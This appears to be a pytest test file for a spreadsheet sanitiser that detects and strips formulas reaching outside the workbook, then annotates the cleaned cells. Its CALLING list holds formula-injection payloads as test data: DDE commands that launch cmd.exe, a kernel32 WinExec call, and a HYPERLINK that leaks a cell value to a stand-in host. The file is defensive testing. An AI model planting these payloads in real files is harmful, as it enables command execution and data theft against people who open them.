"""A formula that reaches beyond its workbook is refused, and never handed back alive."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from performance.form import Reading
from performance.workbook.annotate import annotated
from performance.workbook.calling_formulas import calls_out
from performance.workbook.read import read_return
from tests.hostile_files import packages
from tests.hostile_files.build import FILE_NAME, loaded, saved, valid_content, with_part_changed
from tests.performance.kent_form import TODAY, kent_form_for

CALLING = [
    "cmd|'/c calc'!A0", "=MSEXCEL|'\\..\\cmd.exe /c calc'!''", 'HYPERLINK("http://x.example?"&A1,"x")',
    '_xlfn.WEBSERVICE("http://x.example")', '_xlfn.FILTERXML(A1,"//x")', 'importxml("http://x.example","//a")',
    'IMPORTDATA("x")', 'IMPORTRANGE("x","A1")', 'IMPORTFEED("x")', 'IMPORTHTML("x","table",1)', 'RTD("x",,"y")',
    'DDE("soffice";"x";"A1")', 'CALL("kernel32","WinExec","JCJ","calc",0)', 'IMAGE ("http://x.example")',
    "[1]Activity!A1", "SUM([1]Activity!A1:B2)", "'[Book 2.xlsx]Open book'!A1", "'C:\\files\\[Book.xlsx]It''s'!A1",
    "[1]!Rate", "'file:///C:/Book.xlsx'#$Sheet.A1", "1+1+[2]Sheet1!$A$1",
]  # fmt: skip
HARMLESS = [
    "SUM(D2:E2)", "Table1[Column]+Activity!A1", "[0]!Rate", "'Open book'!A1", "SUM(Table1[[#All],[Cases]])",
    "Activity!A1*Table1[Cases]", "IF(A1>0,B1,C1)", "ROUND(Workforce!D5,1)", "RECALL(1)",
    "SUM(Table1[Cases],Activity!A1)",
]  # fmt: skip
ORIGINAL = b'<c r="D2" t="n"><v>108</v></c>'


def read(content: bytes) -> Reading:
    return read_return(content, FILE_NAME, kent_form_for, TODAY)


def escaped(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


def with_cell(cell: bytes) -> bytes:
    return with_part_changed(valid_content(), packages.ACTIVITY_PART, ORIGINAL, cell)


def sheet_of(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(packages.ACTIVITY_PART).decode()


@pytest.mark.parametrize("formula", CALLING)
def test_it_is_refused_at_its_cell_and_its_last_value_comes_back_alone(formula: str):
    content = with_cell(b'<c r="D2"><f>' + escaped(formula) + b"</f><v>108</v></c>")
    before = read(content)
    assert [(one.code, one.cell) for one in before.findings] == [("calling-formula", "D2")]
    after = annotated(content, before.findings)
    assert "<f" not in sheet_of(after)
    cell = openpyxl.load_workbook(io.BytesIO(after))["Activity"]["D2"]
    assert cell.value == 108
    assert "The formula was taken out of this copy" in cell.comment.text
    assert (read(after).findings, read(after).lines) == ((), read(valid_content()).lines)


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_formula_over_the_workbook_itself_is_not_refused(formula: str):
    assert not calls_out(formula)


@pytest.mark.parametrize("piece", ["[1]", "[1]'", "'[", "|", "CUBEX", "'a:/", "WEBSERVICE ", "[1] a"])
def test_a_long_formula_is_looked_through_once(piece: str):
    assert not calls_out(piece * (100_000 // len(piece)))


def test_one_that_was_never_calculated_leaves_an_empty_cell():
    content = with_cell(b'<c r="D2"><f>RTD("x",,"y")</f></c>')
    after = annotated(content, read(content).findings)
    assert openpyxl.load_workbook(io.BytesIO(after))["Activity"]["D2"].value is None


def test_one_that_cells_share_or_that_fills_a_range_is_taken_out_of_each():
    shared = b'<c r="D2"><f t="shared" ref="D2:E2" si="0">[1]Activity!A1</f><v>108</v></c>'
    content = with_part_changed(
        with_cell(shared), packages.ACTIVITY_PART, b'<c r="E2" t="n"><v>83</v></c>',
        b'<c r="E2"><f t="shared" si="0"/><v>83</v></c>',
    )  # fmt: skip
    array = with_cell(b'<c r="D2"><f t="array" ref="D2">IMPORTDATA("x")</f><v>108</v></c>')
    for one in (content, array):
        assert "<f" not in sheet_of(annotated(one, read(one).findings))


def test_a_name_that_calls_out_is_left_out():
    workbook = loaded()
    workbook.defined_names["Bad"] = DefinedName("Bad", attr_text="cmd|'/c calc'!A0")
    workbook.defined_names["Good"] = DefinedName("Good", attr_text="Activity!$A$1")
    after = openpyxl.load_workbook(io.BytesIO(annotated(saved(workbook), [])))
    assert list(after.defined_names) == ["Good"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(1)", " =1+1", "\uff1d1+1", "=cmd|'/c calc'!A0"])
def test_a_text_like_a_formula_is_marked_as_text_and_reads_the_same(text: str):
    content = with_cell(b'<c r="D2" t="inlineStr"><is><t xml:space="preserve">' + escaped(text) + b"</t></is></c>")
    before = read(content)
    after = annotated(content, before.findings)
    assert read(after) == before
    cell = openpyxl.load_workbook(io.BytesIO(after))["Activity"]["D2"]
    assert (cell.value, cell.quotePrefix) == (text, True)
    plain = openpyxl.load_workbook(io.BytesIO(after))["Activity"]["A2"]
    assert not plain.quotePrefix
